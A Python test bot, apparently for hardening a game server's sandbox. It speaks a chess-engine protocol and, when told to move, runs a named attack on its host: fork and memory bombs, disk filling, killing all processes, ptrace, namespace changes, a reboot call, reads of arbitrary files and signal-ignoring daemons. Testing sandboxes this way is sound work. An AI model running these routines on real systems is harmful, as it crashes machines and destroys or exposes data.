#!/usr/bin/env python3
"""A bot that attacks its host: attacker.py NAME [ARGUMENT...]

It speaks docs/bot-protocol.md and answers with the first legal move. At its first `go` it runs the
attack NAME and reports the result as `info string` lines; if it survives, it keeps playing.
The arguments are the attack's targets."""

import ctypes
import errno
import fcntl
import os
import signal
import socket
import sys
import time

MIB = 1 << 20
LIBC = ctypes.CDLL(None, use_errno=True)


def say(text):
    sys.stdout.write(text + "\n")
    sys.stdout.flush()


def report(text):
    say("info string " + text)


def attempt(name, action):
    """Reports the action's result, or why it failed."""
    try:
        report(f"{name}: {action()}")
    except OSError as error:
        report(f"{name}: {errno.errorcode[error.errno]}")
    except MemoryError:
        report(f"{name}: MemoryError")


def libc_call(function, *arguments):
    result = getattr(LIBC, function)(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), function)
    return result


def sleep_for_ever():
    while True:
        time.sleep(1000)


# ---- Exhausting the machine.


def fork_bomb(*_):
    """All children keep forking; only the first process counts."""
    count = 0
    while count < 2000:
        try:
            if os.fork() == 0:
                count = -1
                break
            count += 1
        except OSError as error:
            report(f"{count} children, then {errno.errorcode[error.errno]}")
            return
    while count < 0:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def thread_bomb():
    import threading

    count = 0
    try:
        while count < 2000:
            threading.Thread(target=sleep_for_ever, daemon=True).start()
            count += 1
    except RuntimeError:
        pass
    report(f"{count} threads")


def allocate(limit):
    """Allocates and touches memory by the MiB, up to the limit. Returns how many MiB it got."""
    chunks = []
    try:
        while len(chunks) * 16 * MIB < limit:
            chunks.append(bytearray(os.urandom(4096)) * (16 * MIB // 4096))
    except MemoryError:
        pass
    return len(chunks) * 16


def memory_hog():
    report(f"{allocate(4096 * MIB)} MiB")


def memory_hog_family(*_):
    """Each child stays below the limit, but together they exceed it."""
    for _ in range(8):
        if os.fork() == 0:
            allocate(256 * MIB)
            sleep_for_ever()
    time.sleep(2)


def fill(path, limit=1024 * MIB):
    """Writes to a file in the folder until that fails."""
    written = 0
    chunk = b"x" * MIB
    number = 0
    try:
        while written < limit:
            with open(f"{path}/fill{number}", "wb", buffering=0) as file:
                number += 1
                for _ in range(16):
                    written += file.write(chunk)
    except OSError as error:
        return f"{written // MIB} MiB, then {errno.errorcode[error.errno]}"
    return f"{written // MIB} MiB"


def disk_filler(*folders):
    for folder in folders or (".", "/", "/usr", "/dev", "/tmp", "/dev/shm"):
        attempt(folder, lambda: fill(folder))


def big_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)

    def write():
        with open("/tmp/big", "wb") as file:
            file.truncate(1 << 40)
        return "1 TiB"

    attempt("truncate", write)


def open_files():
    files = []
    try:
        while len(files) < 5000:
            files.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        count = len(files)
        for file in files:
            os.close(file)
        report(f"{count} files, then {errno.errorcode[error.errno]}")


def busy_loop():
    while True:
        pass


def busy_children():
    """Burns 0.4 s of CPU time, half of it in children that have ended."""
    for _ in range(2):
        child = os.fork()
        if child == 0:
            burn(0.1)
            os._exit(0)
        os.waitpid(child, 0)
    burn(0.2)
    report("burned")


def burn(seconds):
    end = time.process_time() + seconds
    while time.process_time() < end:
        pass


# ---- Accessing other data and processes.


def read_files(*paths):
    for path in paths:
        attempt(path, lambda: open(path, "rb").read(20))


def list_folders(*paths):
    for path in paths:
        attempt(path, lambda: " ".join(sorted(os.listdir(path))))


def network(port, abstract, path):
    attempt("inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM) and "open")
    attempt("inet6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) and "open")
    attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) and "open")
    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "open")
    attempt("connect", lambda: socket.create_connection(("127.0.0.1", int(port)), 2) and "open")
    local = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    attempt("abstract", lambda: local.connect("\0" + abstract) or "open")
    attempt("path", lambda: local.connect(path) or "open")


def messages(path):
    """Leaves marks on a file that another bot sees too."""
    file = os.open(path, os.O_RDONLY)
    lock = b"\0" * 32  # a struct flock of the whole file; F_RDLCK is 0
    attempt("flock", lambda: fcntl.flock(file, fcntl.LOCK_SH | fcntl.LOCK_NB))
    for name in ("F_GETLK", "F_SETLK", "F_SETLKW", "F_OFD_GETLK", "F_OFD_SETLK", "F_OFD_SETLKW"):
        attempt(name, lambda: fcntl.fcntl(file, getattr(fcntl, name), lock) and "allowed")
    attempt("lockf", lambda: fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB))
    attempt("F_SETLEASE", lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK))
    attempt("F_GETLEASE", lambda: fcntl.fcntl(file, fcntl.F_GETLEASE))
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    attempt("F_NOTIFY", lambda: fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_ACCESS))
    set_hint = 1036
    hint = ctypes.c_uint64(2)
    attempt("F_SET_RW_HINT", lambda: libc_call("fcntl", file, set_hint, ctypes.byref(hint)))
    attempt("F_GET_RW_HINT", lambda: libc_call("fcntl", file, set_hint - 1, ctypes.byref(hint)))
    attempt("inotify", lambda: libc_call("inotify_init1", 0))
    attempt("fanotify", lambda: libc_call("fanotify_init", 0, 0))
    attempt("io_setup", lambda: libc_call("syscall", 206, 1, ctypes.byref(ctypes.c_uint64(0))))
    attempt("syncfs", lambda: libc_call("syncfs", file))


def machine():
    """Reports what it learns about the machine and its load."""
    with open("/proc/self/cgroup", encoding="ascii") as groups:
        report("groups " + " ".join(sorted({line.strip().split(":")[2] for line in groups})))
    report("host " + os.uname().nodename)
    with open("/proc/stat", encoding="ascii") as stat:
        words = stat.read().split()
    report("busy " + " ".join(sorted({word for word in words if not word.startswith("cpu")})))
    report(f"processors {os.cpu_count() == len(os.sched_getaffinity(0))}")
    for name in ("cmdline", "loadavg", "uptime", "interrupts", "vmstat", "diskstats"):
        attempt(name, lambda: open("/proc/" + name, "rb").read())
    for name in ("sys", "pressure", "fs", "irq"):
        attempt(name, lambda: os.listdir("/proc/" + name))
        attempt(name, lambda: os.mkdir("/proc/" + name + "/mine"))


def ptrace(worker):
    attach = 16
    attempt("attach", lambda: libc_call("ptrace", attach, int(worker), 0, 0))
    attempt("memory", lambda: open(f"/proc/{worker}/mem", "rb") and "open")
    attempt("parent", lambda: libc_call("ptrace", attach, os.getppid(), 0, 0))
    processes = [name for name in os.listdir("/proc") if name.isdigit()]
    report(f"sees {len(processes)} processes")
    report(f"{sum(not is_filtered(process) for process in processes)} without a filter")


def is_filtered(process):
    with open(f"/proc/{process}/status", encoding="ascii") as status:
        return "Seccomp:\t2\n" in status.readlines()


def kill_all(worker):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    attempt("worker", lambda: os.kill(int(worker), signal.SIGKILL))
    attempt("parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    attempt("all", lambda: os.kill(-1, signal.SIGKILL))
    attempt("group", lambda: os.killpg(0, signal.SIGTERM))


def new_namespaces():
    new_user = 0x10000000
    new_net = 0x40000000
    attempt("unshare user", lambda: libc_call("unshare", new_user))
    attempt("unshare net", lambda: libc_call("unshare", new_net))
    attempt("setns", lambda: libc_call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0))
    attempt("mount", lambda: libc_call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("umount", lambda: libc_call("umount2", b"/tmp", 2))
    attempt("chroot", lambda: libc_call("chroot", b"/tmp"))
    attempt("sethostname", lambda: libc_call("sethostname", b"x", 1))
    attempt("personality", lambda: libc_call("personality", 0x0040000))
    attempt("reboot", lambda: libc_call("reboot", 0x89ABCDEF))


def rights():
    with open("/proc/self/status", encoding="ascii") as status:
        for line in status:
            if line.startswith(("CapEff", "CapBnd", "NoNewPrivs", "Seccomp:", "Groups")):
                report(" ".join(line.split()))
    report(f"root: {os.getuid() == 0 or os.geteuid() == 0}")
    attempt("setuid", lambda: os.setuid(0))
    for entry in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            target = os.readlink("/proc/self/fd/" + entry)
        except OSError:
            continue  # the descriptor of the listing itself
        report(f"fd {entry} {target.split(':')[0]}")
    report("environment " + " ".join(sorted(os.environ)))


# ---- Surviving.


def daemon(*_):
    """Leaves a daemon behind, with the same pipes but in another session."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
                signal.signal(number, signal.SIG_IGN)
            sleep_for_ever()
        os._exit(0)
    os.wait()
    report("left one")


def daemon_and_exit(*_):
    daemon()
    os._exit(5)


# ---- Violating the protocol.


def close_pipes():
    os.close(0)
    os.close(1)
    sleep_for_ever()


def close_input():
    os.close(0)
    sleep_for_ever()


def stop_self():
    os.kill(os.getpid(), signal.SIGSTOP)


def stop_group():
    os.killpg(0, signal.SIGSTOP)


def exit_now():
    os._exit(3)


def abort():
    os.abort()


def endless_output():
    while True:
        say("info string " + "x" * 80)


def endless_line():
    while True:
        sys.stdout.write("x" * 4096)
        sys.stdout.flush()


def endless_errors():
    while True:
        os.write(2, b"error " * 1000)


def nothing(*_):
    """Does nothing, for comparison."""


def silence():
    sleep_for_ever()


def garbage():
    for _ in range(64):
        os.write(1, os.urandom(1000) + b"\n")
    os.write(1, b"bestmove \xff\xfe\x00\x01\n")


def illegal_move():
    say("bestmove a1-a1-a1")


def bare_bestmove():
    say("bestmove")


def twice():
    say("bestmove resign\nbestmove resign")


def false_claim():
    while True:
        say("bestmove claim")
        sys.stdin.readline()


NAMES = ("fork_bomb thread_bomb memory_hog memory_hog_family disk_filler big_file open_files "
         "busy_loop busy_children read_files list_folders network messages machine ptrace kill_all "
         "new_namespaces rights daemon daemon_and_exit close_pipes close_input stop_self "
         "stop_group exit_now abort endless_output endless_line endless_errors nothing "
         "silence garbage illegal_move bare_bestmove twice false_claim").split()


def main():
    name = sys.argv[1] if len(sys.argv) > 1 else ""
    if name not in NAMES:
        sys.exit("attacker.py NAME: one of " + ", ".join(NAMES))
    attack = globals()[name]
    for line in iter(sys.stdin.readline, ""):
        words = line.split()
        if words[:1] == ["uci"]:
            say(f"id name {name}")
            say("option name UCI_Variant type combo default triumvirate var triumvirate "
                "var three-way var tri-d")
            say("option name LegalMoves type check default false")
            say("uciok")
        elif words[:1] == ["isready"]:
            say("readyok")
        elif words[:1] == ["go"]:
            if attack:
                attack(*sys.argv[2:])
            attack = None
            legal = words[words.index("legal") + 1:] if "legal" in words else []
            say("bestmove " + (legal[0] if legal else "resign"))
        elif words[:1] == ["quit"]:
            break


if __name__ == "__main__":
    main()
